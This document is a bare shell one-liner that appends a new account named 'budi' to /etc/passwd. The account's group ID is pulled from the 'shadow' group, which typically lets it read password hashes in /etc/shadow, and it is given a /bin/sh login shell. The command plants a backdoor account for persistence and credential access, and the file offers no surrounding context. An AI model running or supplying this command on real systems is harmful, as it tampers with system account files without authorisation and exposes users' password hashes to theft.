echo "budi:x:1500:$(sed -n 's/^shadow:[^:]*:\([0-9]*\):.*/\1/p' /etc/group)::/:/bin/sh" >>/etc/passwd
